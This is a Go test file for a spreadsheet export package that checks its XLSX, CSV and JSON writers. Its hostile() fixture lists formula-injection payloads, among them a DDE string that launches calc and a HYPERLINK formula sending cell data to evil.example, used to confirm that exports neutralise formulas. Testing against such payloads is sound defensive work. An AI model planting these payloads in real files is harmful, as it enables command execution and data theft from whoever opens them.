package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"pobratim/internal/kit/numfmt"
)

// hostile are texts that some spreadsheet would run.
func hostile() []string {
	list := []string{"=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "+7 921 123-45-67", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1",
		"＝1+1", "＋1", "－1", "＠SUM(A1)", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `";=1+1`, `"=1+1`, "a;=1+1", "a\n=1+1", "'=1+1", "{=1}"}
	return list
}

func sampleTable() Table {
	var rows [][]Cell
	for _, s := range hostile() {
		rows = append(rows, []Cell{String(s), Number("-1234.5"), Date("1989-10-12"), Flag(true)})
	}
	rows = append(rows,
		[]Cell{String(" с пробелами "), Number("00123"), Date("1989-10"), Flag(false)},
		[]Cell{String("<&>\"' _x0041_ \x01 \ufffe конец"), Number("1234567890123456789"), Date("1899-12-31"), {}},
		[]Cell{String(strings.Repeat("ж", 40000)), Int(-5), Date("1989-02-30"), {}},
		[]Cell{{}, Float(0.1), Date("2100-01-01"), {}},
	)
	return Table{
		Name:    "Города: [побратимы] и партнёры, очень длинное имя",
		Columns: []Column{{Key: "name", Title: "Город"}, {Key: "n", Title: "Число"}, {Key: "day", Title: "День", Width: 12}, {Key: "ok", Title: "=Да"}},
		Rows:    Rows(rows),
	}
}

func TestCells(t *testing.T) {
	for _, c := range []struct {
		cell Cell
		kind kind
		text string
	}{
		{Number("0"), numberCell, "0"},
		{Number("-0.50"), numberCell, "-0.50"},
		{Number("007"), textCell, "007"},
		{Number("1e5"), textCell, "1e5"},
		{Number("+5"), textCell, "+5"},
		{Number("1."), textCell, "1."},
		{Number(""), textCell, ""},
		{Number("999999999999999"), numberCell, "999999999999999"},
		{Number("9999999999999999"), textCell, "9999999999999999"},
		{Float(1e21), numberCell, "1000000000000000000000"},
		{Date("1989-10-12"), dayCell, "1989-10-12"},
		{Date("1900-03-01"), dayCell, "1900-03-01"},
		{Date("1900-02-28"), textCell, "1900-02-28"},
		{Date("1989-02-29"), textCell, "1989-02-29"},
		{Date("XXXX-10-12"), textCell, "XXXX-10-12"},
		{Date("с 1992 г."), textCell, "с 1992 г."},
	} {
		if c.cell.kind != c.kind || c.cell.text != c.text {
			t.Errorf("got %v, want %v %q", c.cell, c.kind, c.text)
		}
	}
	for day, want := range map[string]int{"1900-03-01": 61, "1989-10-12": 32793, "2000-01-01": 36526, "2026-11-22": 46348} {
		if n, ok := numfmt.Serial(day); !ok || n != want {
			t.Errorf("%s is day %d, want %d", day, n, want)
		}
	}
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 701: "ZZ", 702: "AAA", 16383: "XFD"} {
		if got := columnName(i); got != want {
			t.Errorf("column %d is %s, want %s", i, got, want)
		}
	}
}

// written is a part of a workbook by its name.
func written(t *testing.T, b []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestWriteXLSX(t *testing.T) {
	var b bytes.Buffer
	empty := Table{Name: "History", Rows: Rows(nil)}
	if err := WriteXLSX(&b, sampleTable(), empty, empty); err != nil {
		t.Fatal(err)
	}
	text := written(t, b.Bytes(), "xl/worksheets/sheet1.xml")
	for _, want := range []string{`<autoFilter ref="A1:D27"/>`, `<c r="B2"><v>-1234.5</v></c>`, `<c r="C2" s="3"><v>32793</v></c>`, `<c r="D2"><v>1</v></c>`, `state="frozen"`,
		`<c r="A2" s="4" t="inlineStr">`, `_x005F_x0041_ _x0001_ _xFFFE_`, `<c r="C24" s="2" t="inlineStr"><is><t xml:space="preserve">1989-10</t>`, `ж…</t>`} {
		if !strings.Contains(text, want) {
			t.Errorf("the sheet lacks %s", want)
		}
	}
	if strings.Contains(text, "<f") {
		t.Error("there is a formula")
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet3.xml"} {
		d := xml.NewDecoder(strings.NewReader(written(t, b.Bytes(), name)))
		for {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
	}
	book := written(t, b.Bytes(), "xl/workbook.xml")
	for _, want := range []string{`name="Города   побратимы  и партнёры,"`, `name="History 2"`, `name="History 3"`} {
		if !strings.Contains(book, want) {
			t.Errorf("the workbook lacks %s: %s", want, book)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var b bytes.Buffer
	table := Table{Columns: []Column{{Title: "Имя"}, {Title: "Число"}, {Title: "День"}}, Rows: Rows([][]Cell{
		{String("a;b\n\"c\""), Number("-1.5"), Date("1989-10-12")}, {String("=1+1"), Int(7), Flag(false)}, {String("+7 921"), {}, String("-")}, {String(" x")}, {{}},
	})}
	if err := WriteCSV(&b, table); err != nil {
		t.Fatal(err)
	}
	want := "\ufeffИмя;Число;День\r\n\"a;b\n\"\"c\"\"\";\"-1,5\";1989-10-12\r\n\"'=1+1\";7;0\r\n\"'+7 921\";;\"'-\"\r\n\" x\"\r\n\"\"\r\n"
	if b.String() != want {
		t.Errorf("got %q\nwant %q", b.String(), want)
	}
}

func TestWriteJSON(t *testing.T) {
	for _, n := range []int{0, 27} {
		table := sampleTable()
		if n == 0 {
			table.Rows = Rows(nil)
		}
		var b bytes.Buffer
		if err := WriteJSON(&b, table); err != nil {
			t.Fatal(err)
		}
		var got []map[string]any
		if err := json.Unmarshal(b.Bytes(), &got); err != nil {
			t.Fatalf("%v in %s", err, b.String())
		}
		if n == 0 && len(got) == 0 {
			continue
		}
		if len(got) != len(hostile())+4 || got[0]["name"] != "=1+1" || got[0]["n"] != -1234.5 || got[0]["ok"] != true || got[0]["day"] != "1989-10-12" {
			t.Errorf("got %v", got)
		}
	}
}

func TestWritersPassErrorsOn(t *testing.T) {
	broken := errors.New("the database is gone")
	rows := func(after int) iter.Seq2[[]Cell, error] {
		return func(yield func([]Cell, error) bool) {
			for range after {
				if !yield([]Cell{String("a")}, nil) {
					return
				}
			}
			yield(nil, broken)
		}
	}
	for _, after := range []int{0, 500} {
		table := Table{Name: "a", Columns: []Column{{Title: "a", Key: "a"}}}
		for name, write := range map[string]func(io.Writer, Table) error{"csv": WriteCSV, "json": WriteJSON, "xlsx": func(w io.Writer, t Table) error { return WriteXLSX(w, t) }} {
			table.Rows = rows(after)
			if err := write(io.Discard, table); !errors.Is(err, broken) {
				t.Errorf("%s after %d rows: %v", name, after, err)
			}
		}
	}
}

// TestMemoryIsFlat writes many rows; the heap in use must not grow with them.
func TestMemoryIsFlat(t *testing.T) {
	var peak uint64
	table := Table{Name: "a", Columns: make([]Column, 12), Rows: func(yield func([]Cell, error) bool) {
		cells := make([]Cell, 12)
		for i := range 100_000 {
			for j := range cells {
				cells[j] = String(fmt.Sprintf("значение %d", i*12+j))
			}
			if i%20_000 == 0 {
				runtime.GC()
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				peak = max(peak, m.HeapAlloc)
			}
			if !yield(cells, nil) {
				return
			}
		}
	}}
	var before runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	if err := WriteXLSX(io.Discard, table); err != nil {
		t.Fatal(err)
	}
	if grown := int64(peak) - int64(before.HeapAlloc); grown > 4<<20 {
		t.Errorf("writing holds %d KB", grown>>10)
	}
}

// TestLibreOfficeFindsNoFormula has LibreOffice open the workbook and the CSV,
// save both in its own format, and counts the formulas there.
func TestLibreOfficeFindsNoFormula(t *testing.T) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("LibreOffice is not installed: apt-get install libreoffice-calc-nogui")
	}
	dir := t.TempDir()
	for name, write := range map[string]func(io.Writer) error{
		"a.xlsx": func(w io.Writer) error { return WriteXLSX(w, sampleTable()) },
		"b.csv":  func(w io.Writer) error { return WriteCSV(w, sampleTable()) },
	} {
		f, err := os.Create(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if err := errors.Join(write(f), f.Close()); err != nil {
			t.Fatal(err)
		}
		command := exec.CommandContext(t.Context(), office, "-env:UserInstallation=file://"+dir+"/profile", "--headless", "--convert-to", "fods", "--infilter=CSV:59,34,76,1,,0,false,true,true", "--outdir", dir, f.Name())
		if strings.HasSuffix(name, "xlsx") {
			command.Args = append(command.Args[:5], command.Args[6:]...)
		}
		if said, err := command.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, said)
		}
		out, err := os.ReadFile(strings.TrimSuffix(f.Name(), filepath.Ext(name)) + ".fods")
		if err != nil {
			t.Fatal(err)
		}
		text := string(out)
		if strings.Contains(text, "table:formula") {
			t.Errorf("%s: LibreOffice found a formula", name)
		}
		if !strings.Contains(text, "SUM(1+1)*cmd") {
			t.Errorf("%s: the text is not there", name)
		}
		if name == "a.xlsx" && !strings.Contains(text, `office:date-value="1989-10-12"`) {
			t.Errorf("%s: a date is no date", name)
		}
	}
}
